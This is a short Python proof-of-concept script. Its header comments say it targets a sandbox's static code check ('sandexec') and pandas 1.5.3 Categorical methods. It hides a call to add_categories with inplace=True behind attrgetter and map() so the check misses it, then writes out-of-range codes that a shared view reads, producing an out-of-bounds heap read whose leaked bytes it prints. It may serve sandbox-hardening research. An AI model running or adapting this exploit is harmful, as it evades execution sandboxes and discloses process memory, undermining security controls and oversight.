# source: sandexec README, "The static check", "pandas' category methods with inplace= ... two Categoricals may share codes (cat[:], pd.Index(cat))"; pandas 1.5.3 Categorical.set_categories(new, ordered, rename, inplace) / add_categories; take_nd reads unchecked codes
# family: attrgetter as a function given to map() (the call the check reads is only attrgetter("name")); category method inplace
# goal: next(map(attrgetter("add_categories"), [c]))(new, True): heap read out of bounds
from operator import attrgetter
import numpy as np
import pandas as pd
c = pd.Categorical([1, 2, 1, 2], categories=[1, 2])
d = c[:]
f = next(map(attrgetter("add_categories"), [c]))
f(list(range(3, 120)), True)
c[1] = 100
c[2] = 110
print("codes of d", d.codes)
vals = np.asarray(d)
print("read past the categories of d:", vals)
print("as bytes:", vals[1:3].tobytes())
